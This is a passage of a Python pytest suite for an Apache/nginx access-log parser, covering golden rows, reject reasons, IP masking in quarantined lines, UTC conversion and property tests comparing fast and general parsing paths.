            user_agent="Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:58.0) Gecko/20100101 Firefox/58.0",
            client_net="203.62.1.0/24",
        ),
        id="apachelogs-3-post",
    ),
    pytest.param(
        "vhost_combined",
        # vhost_combined.log:6 — "SE 2.X MetaSr 1.0" in the user agent is not an address
        'www.varonathe.org:80 203.62.1.80 - - [06/May/2019:06:28:21 +0000] "GET /help.php HTTP/1.1" 301 592 "-" "Mozilla/5.0 (Windows NT 5.2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36 SE 2.X MetaSr 1.0"',
        row(
            ts=utc(2019, 5, 6, 6, 28, 21),
            domain="www.varonathe.org",
            method="GET",
            path="/help.php",
            protocol="HTTP/1.1",
            status=301,
            bytes=592,
            user_agent="Mozilla/5.0 (Windows NT 5.2) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/58.0.3029.110 Safari/537.36 SE 2.X MetaSr 1.0",
            client_net="203.62.1.0/24",
        ),
        id="apachelogs-6",
    ),
]


@pytest.mark.parametrize(("fmt", "line", "expected"), GOLDEN)
def test_golden_row(fmt: str, line: str, expected: dict[str, Any]) -> None:
    assert parse_one(line, fmt) == expected


@pytest.mark.parametrize(("fmt", "line", "expected"), GOLDEN)
def test_golden_row_with_crlf_and_without_newline(fmt: str, line: str, expected: dict[str, Any]) -> None:
    """The terminator is not part of any field: CRLF and a missing final newline give the same row."""
    for block in (line.encode() + b"\r\n", line.encode()):
        batch = parse_block(block, fmt)
        assert batch.rejects.height == 0
        assert batch.rows.to_dicts() == [expected]


def test_domain_setting_fills_formats_without_vhost() -> None:
    # NASA_access_log_Aug95.first20000.log:15, parsed as if it came from a per-domain log file.
    line = (
        '133.43.96.45 - - [01/Aug/1995:00:00:16 -0400] "GET /shuttle/missions/sts-69/mission-sts-69.html HTTP/1.0"'
        " 200 10566"
    )
    got = parse_one(line, "common", domain="www.example.com")
    assert isinstance(got, dict)
    assert got["domain"] == "www.example.com"


# ---------------------------------------------------------------------------------------------------
# Rejects
# ---------------------------------------------------------------------------------------------------

_70_KIB = 70 * 1024
REJECTS = [
    # apachelogs-tests/vhost_combined.log:5
    pytest.param("vhost_combined", "Bad line", "unparseable", id="apachelogs-bad-line"),
    # lnav-tests/logfile_bad_access_log.0:2 — ident and user fields missing
    pytest.param(
        "combined",
        '192.168.202.254 [20/Jul/2009:22:59:29 +0000] "GET /vmw/vSphere/default/vmkboot.gz HTTP/1.0" 404 46210 "-" "gPXE/0.9.7"',
        "unparseable",
        id="lnav-bad-access-middle",
    ),
    # elastic-apache/apache_logs:8899 — unterminated user agent
    pytest.param(
        "combined",
        '46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /scripts/grok-py-test/configlib.py HTTP/1.1" 200 235 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html',
        "unparseable",
        id="elastic-8899-unterminated-ua",
    ),
    # beats-filebeat-tests/nginx-access-test.log:3 — an X-Forwarded-For list where combined expects %h
    pytest.param(
        "combined",
        '10.0.0.2, 10.0.0.1, 85.181.35.98 - - [07/Dec/2016:11:05:07 +0100] "GET /ocelot HTTP/1.1" 200 571 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12; rv:49.0) Gecko/20100101 Firefox/49.0"',
        "unparseable",
        id="beats-nginx-xff-list-in-combined",
    ),
    # crowdsec-hub-tests/apache2-logs__apache2-logs.log:8 — an Apache error-log line in an access log
    pytest.param(
        "combined",
        "[Thu Oct 13 12:24:49.880562 2022] [auth_basic:error] [pid 10:tid 140120579262208] [client 31.33.58.75:50229] AH01618: user sss not found: /",
        "unparseable",
        id="crowdsec-error-log-line",
    ),
    # crowdsec-hub-tests/nginx_http-logs__nginx_http-logs.log:8 — ident field missing
    pytest.param(
        "combined",
        '192.168.1.1 - [08/Jun/2020:08:04:43 +0000] "GET /api/test HTTP/1.1" 200 100 "-" "curl/7.68.0"',
        "unparseable",
        id="crowdsec-missing-ident",
    ),
    # crowdsec-hub-tests/nginx_http-logs__nginx_http-logs.log:9 — nginx error-log line
    pytest.param(
        "combined",
        '2021/12/01 13:53:33 [error] 31#31: *46 "/usr/share/nginx/html/market/index.html" is not found (2: No such file or directory), client: 172.17.0.1, server: localhost, request: "GET /market/ HTTP/1.1", host: "localhost"',
        "unparseable",
        id="crowdsec-nginx-error-log-line",
    ),
    # Invented lines (documentation addresses) for the other reasons.
    pytest.param(
        "combined",
        '198.51.100.7 - - [32/Foo/2026:99:99:99 +0000] "GET / HTTP/1.1" 200 512 "-" "curl/8.4.0"',
        "bad_timestamp",
        id="bad-month-and-time",
    ),
    pytest.param(
        "combined",
        '198.51.100.7 - - [31/Feb/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "curl/8.4.0"',
        "bad_timestamp",
        id="february-31",
    ),
    pytest.param(
        "combined",
        b'198.51.100.7 - - [01/Nov/2026:10:00:00 +0000] "GET /a\x00b HTTP/1.1" 200 512 "-" "curl/8.4.0"',
        "binary",
        id="nul-byte",
    ),
    pytest.param(
        "combined",
        b'198.51.100.7 - - [01/Nov/2026:10:00:00 +0000] "GET /caf\xe9\xff HTTP/1.1" 200 512 "-" "curl/8.4.0"',
        "binary",
        id="invalid-utf8",
    ),
    pytest.param(
        "combined",
        '2001:db8:5:6::7 - - [01/Nov/2026:10:00:00 +0000] "GET /'
        + "a" * _70_KIB
        + ' HTTP/1.1" 200 512 "-" "-"',
        "too_long",
        id="70-kib-line",
    ),
    pytest.param(
        "combined",
        '203.0.113.9 - - [01/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 ' + "1" * 25 + ' "-" "curl/8.4.0"',
        "bad_field",
        id="bytes-25-digits",
    ),
]

_V4_IN_TEXT = re.compile(r"(?<![0-9])[0-9]{1,3}(?:\.[0-9]{1,3}){3}(?![0-9])")
_V6_IN_TEXT = re.compile(r"(?<![0-9A-Fa-f])[0-9A-Fa-f]{0,4}(?::[0-9A-Fa-f]{0,4})+(?:\.[0-9]{1,3}){0,3}")


def addresses_in(text: str) -> set[ipaddress.IPv4Address | ipaddress.IPv6Address]:
    """Every IPv4/IPv6 address written in ``text`` (also with a port or trailing punctuation)."""
    found: set[ipaddress.IPv4Address | ipaddress.IPv6Address] = set()
    candidates = _V4_IN_TEXT.findall(text) + _V6_IN_TEXT.findall(text)
    for tok in candidates:
        for cand in (tok, tok.strip(":."), tok.rsplit(":", 1)[0]):
            try:
                found.add(ipaddress.ip_address(cand))
            except ValueError:
                continue
    return found


def leaked_forms(
    addr: ipaddress.IPv4Address | ipaddress.IPv6Address, masker: privacy.ClientMasker
) -> set[str]:
    """Spellings of ``addr`` that must not survive masking (none if it equals its own network address)."""
    if masker.network_of(addr).split("/")[0] == str(addr):
        return set()
    return {str(addr), addr.exploded}


@pytest.mark.parametrize(("fmt", "line", "reason"), REJECTS)
def test_reject_reason(fmt: str, line: str | bytes, reason: str) -> None:
    assert parse_one(line, fmt) == reason


@pytest.mark.parametrize(("fmt", "line", "reason"), REJECTS)
def test_reject_line_is_scrubbed(fmt: str, line: str | bytes, reason: str) -> None:
    raw = line if isinstance(line, bytes) else line.encode()
    batch = parse_block(raw + b"\n", fmt)
    rejects = batch.rejects.to_dicts()
    assert len(rejects) == 1
    kept = rejects[0]["line"]
    assert rejects[0]["offset"] == 0
    assert rejects[0]["reason"] == reason
    assert isinstance(kept, str)
    assert kept  # the quarantine keeps (scrubbed) evidence, not an empty string
    assert len(kept) <= 2048 + 16  # cut to the quarantine limit (masking may add a few characters)
    addrs = addresses_in(raw.decode("utf-8", "replace"))
    masker = privacy.ClientMasker()
    for addr in addrs:
        assert masker.network_of(addr) in kept  # the evidence keeps the network in its place
        for form in leaked_forms(addr, masker):
            assert form not in kept, (form, kept[:200])


def test_reject_line_exact_scrubbed_text() -> None:
    # lnav-tests/logfile_bad_access_log.0:2: kept verbatim except the client address.
    line = (
        '192.168.202.254 [20/Jul/2009:22:59:29 +0000] "GET /vmw/vSphere/default/vmkboot.gz HTTP/1.0" 404 46210 '
        '"-" "gPXE/0.9.7"'
    )
    batch = parse_block(line.encode() + b"\n", "combined")
    assert batch.rejects.get_column("line").to_list() == [
        '192.168.202.0/24 [20/Jul/2009:22:59:29 +0000] "GET /vmw/vSphere/default/vmkboot.gz HTTP/1.0" 404 46210 '
        '"-" "gPXE/0.9.7"'
    ]


def test_binary_reject_renders_bytes_visibly() -> None:
    line = b'198.51.100.7 - - [01/Nov/2026:10:00:00 +0000] "GET /a\x00b\xff HTTP/1.1" 200 512'
    batch = parse_block(line + b"\n", "combined")
    assert batch.rejects.get_column("line").to_list() == [
        '198.51.100.0/24 - - [01/Nov/2026:10:00:00 +0000] "GET /a\u2400b\\xff HTTP/1.1" 200 512'
    ]


@pytest.mark.parametrize("cut", [12, 20, 25, 30])
def test_reject_text_cut_at_limit_keeps_no_more_than_the_network(cut: int) -> None:
    """A rejected line is cut to 2 KiB for the quarantine; an IPv6 address straddling the cut must not
    survive with more than its /48 network (the part before the cut must be masked as well)."""
    addr = "2001:db8:1234:5678:9abc:def0:1357:2468"
    head = '198.51.100.7 - - [01/Nov/2026:10:00:00 +0000] "GET /x HTTP/1.1" 200 512 "-" "probe '
    pad = 2048 - len(head) - cut
    line = head + "z" * pad + addr + ' via proxy"' + " trailing-garbage"  # unparseable: text after the UA
    assert line.index(addr) + cut == 2048
    batch = parse_block(line.encode() + b"\n", "combined")
    assert batch.rejects.get_column("reason").to_list() == ["unparseable"]
    kept = batch.rejects.get_column("line")[0]
    # The host part beyond the /48 ("5678", the 4th group) must not be in the quarantine.
    assert "2001:db8:1234:5678" not in kept


# ---------------------------------------------------------------------------------------------------
# Time zones
# ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("stamp", "expected"),
    [
        ("31/Oct/2026:23:30:00 -0700", utc(2026, 11, 1, 6, 30, 0)),  # next UTC day (and month)
        ("31/Dec/2026:23:30:00 -0700", utc(2027, 1, 1, 6, 30, 0)),  # next UTC year
        ("22/Jan/2019:03:10:00 +0330", utc(2019, 1, 21, 23, 40, 0)),  # previous UTC day
        ("22/Jan/2019:12:00:00 +0330", utc(2019, 1, 22, 8, 30, 0)),
        ("17/Oct/2023:05:57:49 +1100", utc(2023, 10, 16, 18, 57, 49)),
        ("17/Oct/2023:11:00:00 +1100", utc(2023, 10, 17, 0, 0, 0)),
        ("01/Mar/2024:00:15:00 +0545", utc(2024, 2, 29, 18, 30, 0)),  # leap day
        ("01/Nov/2026:00:00:00 +0000", utc(2026, 11, 1, 0, 0, 0)),
        ("01/Nov/2026:12:00:00 -0930", utc(2026, 11, 1, 21, 30, 0)),
    ],
)
def test_timestamp_converted_to_utc(stamp: str, expected: datetime) -> None:
    line = f'203.0.113.9 - - [{stamp}] "GET / HTTP/1.1" 200 512 "-" "curl/8.4.0"'
    got = parse_one(line, "combined")
    assert isinstance(got, dict), got
    assert got["ts"] == expected
    assert got["ts"].utcoffset() == expected.utcoffset()


# ---------------------------------------------------------------------------------------------------
# Accounting: every non-blank line is a row or a reject
# ---------------------------------------------------------------------------------------------------


def test_mixed_block_every_nonblank_line_accounted_for() -> None:
    lines = [
        # elastic-apache/apache_logs:1, CRLF
        b'83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash-monitorama-2013/images/'
        b'kibana-search.png HTTP/1.1" 200 203023 "http://semicomplete.com/presentations/logstash-monitorama-2013/"'
        b' "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) '
        b'Chrome/32.0.1700.77 Safari/537.36"\r\n',
        b"\n",  # blank
        b"\r\n",  # blank (CRLF)
        b"Bad line\n",  # apachelogs-tests/vhost_combined.log:5
        b'198.51.100.7 - - [01/Nov/2026:10:00:00 +0000] "GET /a\x00 HTTP/1.1" 200 1\n',  # binary
        b"\n",
        b'198.51.100.7 - - [32/Foo/2026:99:99:99 +0000] "GET / HTTP/1.1" 200 1\n',  # bad timestamp
        # NASA_access_log_Aug95.first20000.log:159, LF
        b'gw1.att.com - - [01/Aug/1995:00:03:53 -0400] "GET /shuttle/missions/sts-73/news HTTP/1.0" 302 -\n',
        # apache-access-test.log:3, last line without newline
        b'::1 - - [26/Dec/2016:16:16:48 +0200] "-" 408 -',
    ]
    block = b"".join(lines)
    nonblank = [ln for ln in lines if ln.strip(b"\r\n")]
    batch = parse_block(block, "combined")
    assert batch.lines == len(nonblank) == 6
    assert batch.rows.height + batch.rejects.height == batch.lines
    assert batch.rows.height == 3
    assert batch.rows.get_column("path").to_list() == [
        "/presentations/logstash-monitorama-2013/images/kibana-search.png",
        "/shuttle/missions/sts-73/news",
        None,
    ]
    assert batch.rows.get_column("status").to_list() == [200, 302, 408]
    starts = [sum(len(x) for x in lines[:i]) for i in range(len(lines))]
    assert batch.rejects.select("offset", "reason").rows() == [
        (starts[3], "unparseable"),
        (starts[4], "binary"),
        (starts[6], "bad_timestamp"),
    ]
    assert batch.reject_counts == {"unparseable": 1, "binary": 1, "bad_timestamp": 1}


def test_block_offsets_are_absolute() -> None:
    block = b"Bad line\nanother bad line\n"
    settings = ParseSettings(
        domain=None,
        server="web1",
        sensitive_param_regex=privacy.sensitive_param_regex(DEFAULT_SENSITIVE_PARAMS),
    )
    batch = parse_lines(
        split_block(block, 1000, MAX_LINE), resolve("combined"), settings, privacy.ClientMasker()
    )
    assert batch.rejects.get_column("offset").to_list() == [1000, 1009]


def test_only_blank_lines() -> None:
    batch = parse_block(b"\n\r\n\n", "combined")
    assert batch.lines == 0
    assert batch.rows.height == 0
    assert batch.rejects.height == 0


# --- the fast pattern (request line split inside the format regex) agrees with the general path ---

_CHARS = [*'GETPOSTHEAD/?&=. -_%"\\:aZ09', "HTTP/1.1", "\\x16", '\\"']
_REQUEST_TEXT = st.one_of(
    st.lists(st.sampled_from(_CHARS), max_size=20).map("".join),  # junk
    st.tuples(  # request-shaped: method, target, protocol with odd variants of each
        st.sampled_from(["GET", "post", "M-SEARCH", "G3T", "", "-"]),
        st.sampled_from([" ", "  ", ""]),
        st.lists(st.sampled_from([*"/a?b=&%. ", "\\x41", '\\"', "?"]), max_size=12).map("".join),
        st.sampled_from([" ", "  ", ""]),
        st.sampled_from(["HTTP/1.1", "HTTP/2.0", "HTTP/1", "HTTP/", "FOO/1.0", "T", "", "HTTP/1.1 x"]),
    ).map("".join),
)


# Server names the fast pattern takes as they are, and ones it leaves to the general pattern
_VHOSTS = st.sampled_from(
    ["example.org", "Example.ORG", "example.org.", "-", "[2001:DB8::1]", "xn--bcher-kva.example", "a_b-c.example",
     "a..b", "_x.", "9.example", "x-"]
)  # fmt: skip


# Referrer/user-agent tails: quotes escaped or not, '" "' inside and around values, extra quoted
# fields, missing fields, CRLF, non-ASCII (byte and character offsets differ)
_QUOTED_TEXT = st.lists(
    st.sampled_from(["a", " ", '"', '\\"', "\\\\", '" "', "\\", "é", "-"]), max_size=6
).map("".join)
_TAIL = st.one_of(
    st.tuples(_QUOTED_TEXT, _QUOTED_TEXT, st.lists(_QUOTED_TEXT, max_size=2)).map(
        lambda t: f' "{t[0]}" "{t[1]}"' + "".join(f' "{x}"' for x in t[2])
    ),
    st.sampled_from(["", ' "-"', ' "-" "UA" ', ' "-"  "UA"', ' "-" "UA"x']),
)


@settings(max_examples=cases(80), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    requests=st.lists(
        st.tuples(
            st.one_of(st.just("GET /a?b=1 HTTP/1.1"), _REQUEST_TEXT),  # often a line the fast stages take
            st.one_of(st.just("example.org"), _VHOSTS),
            st.sampled_from([":80", ":", ""]),
            _TAIL,
            st.sampled_from(["\n", "\r\n"]),
        ),
        min_size=1,
        max_size=8,
    )
)
def test_fast_stages_give_the_general_rows(requests: list[tuple[str, str, str, str, str]]) -> None:
    """Whatever the request line, server name, referrer and user agent, the fast stages (request split
    in the pattern; user agent matched per distinct value) produce exactly the general pattern's rows
    and rejects (their domain is the normalised one without a normalisation pass)."""
    lines = [
        f'{v}{p} 198.51.100.{i} - - [01/Nov/2026:10:00:0{i % 10} +0000] "{r}" 200 {i}{tail}{end}'
        for i, (r, v, p, tail, end) in enumerate(requests)
    ]
    block = "".join(lines).encode()
    fast = resolve("vhost_combined")
    assert fast.fast_regex is not None and fast.split_regex is not None
    general = dataclasses.replace(fast, fast_regex=None, split_regex=None)
    settings_ = ParseSettings(
        domain=None, server="web1", sensitive_param_regex=privacy.sensitive_param_regex(["token"])
    )
    a = parse_lines(split_block(block, 0, MAX_LINE), fast, settings_, privacy.ClientMasker())
    b = parse_lines(split_block(block, 0, MAX_LINE), general, settings_, privacy.ClientMasker())
    assert a.lines == b.lines == len(lines)
    assert a.rows.sort("bytes").rows() == b.rows.sort("bytes").rows()
    assert a.rejects.rows() == b.rejects.rows()


def test_fast_request_pattern_only_for_quoted_request() -> None:
    assert resolve("combined").fast_regex is not None
    assert resolve('%h %l %u %t "%m %U%q %H" %>s %b').fast_regex is None  # no %r: split by the format
    row = parse_one('192.0.2.1 - - [01/Nov/2026:10:00:00 +0000] "GET /a?b=1?c HTTP/1.1" 200 5', "common")
    assert isinstance(row, dict) and (row["path"], row["query"]) == ("/a", "b=1?c")
